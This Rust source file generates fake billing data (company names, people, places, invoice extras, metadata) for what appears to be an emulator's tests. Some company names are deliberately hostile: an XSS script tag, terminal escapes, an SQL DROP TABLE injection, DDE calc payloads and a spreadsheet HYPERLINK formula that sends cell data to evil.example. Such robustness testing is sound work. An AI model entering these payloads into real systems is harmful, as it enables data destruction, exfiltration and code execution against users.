//! Names and texts: mostly plain, some of the kind that breaks careless software.

use fastrand::Rng;

use crate::emulator::account::billing::Metadata;

const FIRST_WORDS: [&str; 20] = [
    "Amber", "Blue", "Cedar", "Delta", "Eagle", "Fjord", "Granite", "Harbor", "Iron", "Juniper",
    "Kestrel", "Lunar", "Maple", "North", "Orchid", "Pine", "Quartz", "River", "Silver", "Tundra",
];
const SECOND_WORDS: [&str; 16] = [
    "Analytics",
    "Bakery",
    "Capital",
    "Design",
    "Energy",
    "Foods",
    "Garden",
    "Health",
    "Imports",
    "Labs",
    "Media",
    "Networks",
    "Outfitters",
    "Press",
    "Robotics",
    "Shipping",
];
const ENDINGS: [&str; 8] = ["Inc.", "LLC", "GmbH", "Ltd", "S.A.", "& Sons", "Co.", "AB"];

/// Holds names that were chosen to hurt: markup, terminal codes, formulas, scripts, directions.
const HOSTILE: [&str; 18] = [
    "<script>alert('paid')</script> Ltd",
    "\u{1b}[31mRed\u{1b}[0m \u{1b}]0;owned\u{7}Bell & Sons",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
    "🚀 Rocket 👩‍🚀 Labs 🇪🇺",
    "شركة النور للتجارة",
    "\u{202e}gnirB Override\u{202c} Co",
    "Robert'); DROP TABLE customers;--",
    "株式会社 名前なし",
    "+1-555-CALC|cmd",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "  spaces, \"quotes\"; and \\backslash\\  ",
    "Zażółć gęślą jaźń S.A.",
    "NULL",
    "Line\nbreak\r\nand\ttab",
    "e\u{301}cole (two ways: \u{e9}cole)",
    "-2+3",
    "{\"json\": [1, null]}",
    "\u{feff}Zero\u{200b}Width",
];

/// Draws an ordinary company name.
pub(crate) fn plain_company(rng: &mut Rng) -> String {
    let (first, second) = (pick(rng, &FIRST_WORDS), pick(rng, &SECOND_WORDS));
    format!("{first} {second} {}", pick(rng, &ENDINGS))
}

/// Names a company; every sixth name is hostile, and one in 108 is very long.
pub(crate) fn company(serial: usize, rng: &mut Rng) -> String {
    let plain = plain_company(rng);
    if serial % 108 == 11 {
        return format!("{} Holding", plain.repeat(200));
    }
    match HOSTILE.get(serial / 6 % HOSTILE.len()) {
        Some(hostile) if serial % 6 == 3 => (*hostile).to_owned(),
        _ => plain,
    }
}

/// Draws the name of a person; some have no last name.
pub(crate) fn person(rng: &mut Rng) -> (&'static str, Option<&'static str>) {
    let first = pick(rng, &["Ada", "Björn", "Chloé", "Dmitri", "Emeka", "Fatima", "Grace", "Hiro"]);
    let last = pick(rng, &["Lovelace", "Ångström", "O'Neill", "García Márquez", "Nguyễn", "Smith"]);
    (first, rng.bool().then_some(last))
}

/// Draws a place: city, state, zip, country. Zips keep their leading zeros.
pub(crate) fn place(rng: &mut Rng) -> (&'static str, &'static str, &'static str, &'static str) {
    const PLACES: [(&str, &str, &str, &str); 7] = [
        ("Boston", "MA", "02108", "US"),
        ("San Francisco", "CA", "94105", "US"),
        ("München", "BY", "80331", "DE"),
        ("Dresden", "SN", "01067", "DE"),
        ("London", "", "EC1A 1BB", "GB"),
        ("東京", "Tōkyō", "100-0001", "JP"),
        ("Chicago", "IL", "60601", "US"),
    ];
    PLACES.get(rng.usize(0..PLACES.len())).copied().unwrap_or_default()
}

/// Draws what is sold beside a subscription, and the group that keeps it on its own invoice.
pub(crate) fn extra(rng: &mut Rng) -> (&'static str, Option<&'static str>) {
    const EXTRAS: [(&str, Option<&str>); 6] = [
        ("Additional usage", None),
        ("Consulting, 1 h", Some("consulting")),
        ("Overage <b>GB</b> & more", Some("usage")),
        ("=1+1 setup fee", None),
        ("Livraison à Orléans 🚚", None),
        ("Training", Some("consulting")),
    ];
    EXTRAS.get(rng.usize(0..EXTRAS.len())).copied().unwrap_or_default()
}

/// Draws what is metered beside a subscription.
pub(crate) fn usage(rng: &mut Rng) -> &'static str {
    pick(rng, &["API calls, per 1 000", "Storage <GB·month>", "Seats added pro rata", "Minutes"])
}

/// Draws metadata; often there is none.
pub(crate) fn metadata(rng: &mut Rng) -> Metadata {
    Metadata(match rng.u32(0..5) {
        0 => vec![("promotion".into(), "spring".into()), ("größe".into(), "XL ✓".into())],
        1 => vec![("po_number".into(), "00042".into())],
        2 => vec![("".into(), "empty key".into()), ("a.b['c']".into(), "\"quoted\"".into())],
        _ => Vec::new(),
    })
}

fn pick(rng: &mut Rng, words: &[&'static str]) -> &'static str {
    words.get(rng.usize(0..words.len())).copied().unwrap_or("")
}
